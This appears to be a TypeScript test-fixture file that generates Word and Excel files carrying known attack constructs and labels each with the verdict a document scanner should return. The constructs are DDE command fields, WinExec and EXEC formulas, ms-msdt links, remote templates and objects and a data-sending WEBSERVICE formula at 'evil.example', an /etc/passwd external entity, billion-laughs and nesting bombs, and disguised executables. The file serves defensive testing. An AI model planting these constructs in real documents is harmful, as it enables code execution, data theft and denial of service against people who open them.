import { buildDocx, buildXlsx, type OfficeParts, XML } from "./build-office.ts";
import { buildZip } from "./build-zip.ts";
import type { Row } from "./corpus.ts";

const field = (...runs: string[]) =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${runs.map((run) => `<w:r><w:instrText xml:space="preserve">${run}</w:instrText></w:r>`).join("")}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;
const part = (name: string, bytes: Buffer | string = "x"): OfficeParts => ({ parts: [{ name, bytes }] });
const outside = (type: string, target: string): OfficeParts => ({ relations: [{ type, target, external: true }] });
const formula = (text: string): OfficeParts => ({ body: `<c r="A1"><f>${text}</f></c>` });
const override = (name: string, type: string) => `<Override PartName="${name}" ContentType="${type}"/>`;

type Given = readonly [title: string, verdict: Row[2], parts: OfficeParts];

/** Documents and sheets that act, fetch or carry something. */
export function officeCases(): Row[] {
  const documents: Given[] = [
    ["macros", "macros", part("word/vbaProject.bin")],
    [
      "macros under another name",
      "macros",
      {
        relations: [
          { type: "http://schemas.microsoft.com/office/2006/relationships/vbaProject", target: "media/image1.png" },
        ],
      },
    ],
    ["a type for macros", "macros", { mainType: "application/vnd.ms-word.document.macroEnabled.main+xml" }],
    ["a part for macros", "macros", { types: override("/word/a.xml", "application/vnd.ms-office.vbaProject") }],
    ["macro data", "macros", part("word/vbaData.xml", `${XML}<a/>`)],
    ["an ActiveX control", "macros", part("word/activeX/activeX1.bin")],
    ["buttons of its own", "macros", part("customUI/customUI.xml", `${XML}<a/>`)],
    ["a DDE field", "script", { body: field(' DDE cmd "/c calc" ') }],
    ["a DDEAUTO field", "script", { body: field(" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe ") }],
    ["a DDE field cut into runs", "script", { body: field("DD", "EA", "UTO cmd") }],
    ["a DDE field in escapes", "script", { body: field("&#68;&#x44;EAUTO cmd") }],
    ["a simple DDE field", "script", { body: '<w:p><w:fldSimple w:instr=" DDEAUTO cmd "/></w:p>' }],
    ["another document in the text", "script", { body: '<w:altChunk r:id="rId9"/>' }],
    ["a web add-in", "script", part("word/webextensions/webextension1.xml", `${XML}<a/>`)],
    ["a link to a script", "script", outside("hyperlink", "javascript:alert(1)")],
    ["a link to a diagnostic tool", "script", outside("hyperlink", "ms-msdt:/id PCWDiagnostic")],
    [
      "a link to a search of a share",
      "script",
      outside("hyperlink", "search-ms:query=x&amp;crumb=location:\\\\evil.example"),
    ],
    ["a link to data", "script", outside("hyperlink", "data:text/html,x")],
    ["a template on the web", "external-links", outside("attachedTemplate", "https://evil.example/t.dotm")],
    ["a template on the plain web", "external-links", outside("attachedTemplate", "http://evil.example/t.dotm")],
    ["a template on a share", "external-links", outside("attachedTemplate", "\\\\evil.example\\share\\t.dotm")],
    [
      "a template on a share by address",
      "external-links",
      outside("attachedTemplate", "file://evil.example/share/t.dotm"),
    ],
    [
      "a template on a share with five slashes",
      "external-links",
      outside("attachedTemplate", "file://///evil.example/share/t.dotm"),
    ],
    ["an object on the web", "external-links", outside("oleObject", "https://evil.example/x.html!")],
    [
      "an object in a web archive",
      "external-links",
      outside("oleObject", "mhtml:https://evil.example/x.html!x-usc:https://evil.example/x.html"),
    ],
    ["a frame on the web", "external-links", outside("frame", "https://evil.example/")],
    ["a part of the text on the web", "external-links", outside("subDocument", "https://evil.example/a.docx")],
    [
      "a picture field of the web",
      "external-links",
      { body: field(' INCLUDEPICTURE "https://evil.example/p.png" \\d ') },
    ],
    ["a text field of a share", "external-links", { body: field(' INCLUDETEXT "\\\\\\\\evil.example\\\\a.docx" ') }],
    ["an embedded object", "embedded-files", part("word/embeddings/oleObject1.bin")],
    ["an embedded program", "embedded-files", part("word/embeddings/tool.exe", "MZ")],
    ["an embedded archive", "embedded-files", part("word/embeddings/a.zip", buildZip([{ name: "a", bytes: "a" }]))],
    ["an embedded PDF", "embedded-files", part("word/embeddings/a.pdf", "%PDF-1.7")],
    ["an embedded macro document", "embedded-files", part("word/embeddings/a.docm")],
    ["a web page as a part", "embedded-files", part("word/afchunk.html", "<html>")],
    ["a web archive as a part", "embedded-files", part("word/afchunk.mht")],
    ["RTF as a part", "embedded-files", part("word/afchunk.rtf", "{\\rtf1}")],
    ["a script as a part", "embedded-files", part("word/media/a.js", "alert(1)")],
    ["a class as a part", "embedded-files", part("Evil.class", "x")],
    ["a Java manifest", "embedded-files", part("META-INF/MANIFEST.MF", "Main-Class: Evil")],
    ["a part without an extension", "embedded-files", part("word/media/payload")],
    ["the virus test file as a part", "embedded-files", part("word/eicar.com")],
    ["a program that is called a picture", "embedded-files", part("word/media/image1.png", "MZ\u0090 program")],
    ["a page that is called a picture", "embedded-files", part("word/media/image1.jpg", "<html><script>")],
    ["a broken sheet inside", "broken", part("word/embeddings/a.xlsx", "PK")],
    ["a sheet with macros inside", "macros", part("word/embeddings/a.xlsx", buildXlsx(part("xl/vbaProject.bin")))],
    [
      "a document in a document in a document",
      "bomb",
      part("word/embeddings/a.docx", buildDocx(part("word/embeddings/b.docx", buildDocx()))),
    ],
    [
      "an outside entity",
      "broken",
      part(
        "word/document.xml",
        '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
      ),
    ],
    ["entities that multiply", "broken", part("word/document.xml", laughs())],
    ["markup 10,000 deep", "bomb", part("word/document.xml", `${XML}${"<a>".repeat(10_000)}${"</a>".repeat(10_000)}`)],
    ["markup that does not close", "broken", part("word/document.xml", `${XML}<w:document><w:body>`)],
    ["markup with an open quote", "broken", part("word/document.xml", `${XML}<a b="`)],
    [
      "markup in UTF-16",
      "broken",
      part("word/document.xml", Buffer.from('\ufeff<?xml version="1.0" encoding="UTF-16"?><a/>', "utf16le")),
    ],
    ["markup that claims UTF-7", "broken", part("word/document.xml", '<?xml version="1.0" encoding="UTF-7"?><a/>')],
    [
      "two main parts",
      "type-mismatch",
      {
        types: override(
          "/word/b.xml",
          "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        ),
      },
    ],
  ];
  const sheets: Given[] = [
    ["macros", "macros", part("xl/vbaProject.bin")],
    ["a type for macros", "macros", { mainType: "application/vnd.ms-excel.sheet.macroEnabled.main+xml" }],
    ["old macros", "macros", part("xl/macrosheets/sheet1.xml", `${XML}<a/>`)],
    ["old dialogs", "macros", part("xl/dialogsheets/sheet1.xml", `${XML}<a/>`)],
    [
      "a DDE link",
      "script",
      part(
        "xl/externalLinks/externalLink1.xml",
        `${XML}<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>`,
      ),
    ],
    ["a DDE formula", "script", formula("cmd|&apos;/C calc&apos;!A0")],
    [
      "a formula that calls a library",
      "script",
      formula("CALL(&quot;kernel32&quot;,&quot;WinExec&quot;,&quot;JCJ&quot;,&quot;calc&quot;,0)"),
    ],
    ["a formula that runs a program", "script", formula("EXEC(&quot;calc&quot;)")],
    [
      "a name that runs a program",
      "script",
      part(
        "xl/workbook.xml",
        `${XML}<workbook><definedNames><definedName name="a">EXEC("calc")</definedName></definedNames></workbook>`,
      ),
    ],
    ["a formula that asks the web", "external-links", formula("WEBSERVICE(&quot;https://evil.example/&quot;&amp;A1)")],
    [
      "a formula that draws from the web",
      "external-links",
      formula("_xlfn.IMAGE(&quot;https://evil.example/a.png&quot;)"),
    ],
    ["a connection", "external-links", part("xl/connections.xml", `${XML}<connections/>`)],
    ["a query", "external-links", part("xl/queryTables/queryTable1.xml", `${XML}<queryTable/>`)],
    ["a data model", "embedded-files", part("xl/model/item.data")],
    ["an embedded object", "embedded-files", part("xl/embeddings/oleObject1.bin")],
    ["an embedded program", "embedded-files", part("xl/media/a.exe", "MZ")],
  ];
  return [
    ...documents.map(([title, verdict, given]): Row => [
      `a document with ${title}`,
      "don.docx",
      verdict,
      () => buildDocx(given),
    ]),
    ...sheets.map(([title, verdict, given]): Row => [
      `a sheet with ${title}`,
      "bang.xlsx",
      verdict,
      () => buildXlsx(given),
    ]),
    ["a locked document", "don.docx", "locked", compound()],
    ["a locked sheet", "bang.xlsx", "locked", compound()],
  ];
}

function laughs(): string {
  const levels = Array.from({ length: 9 }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`).join("");
  return `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY l0 "ha">${levels}]><a>&l9;</a>`;
}

/** A compound file as Office makes it around a document with a password. */
function compound(): Buffer {
  const head = Buffer.from("d0cf11e0a1b11ae1", "hex");
  return Buffer.concat([
    head,
    Buffer.alloc(504),
    Buffer.from("EncryptionInfo\0EncryptedPackage", "utf16le"),
    Buffer.alloc(512),
  ]);
}
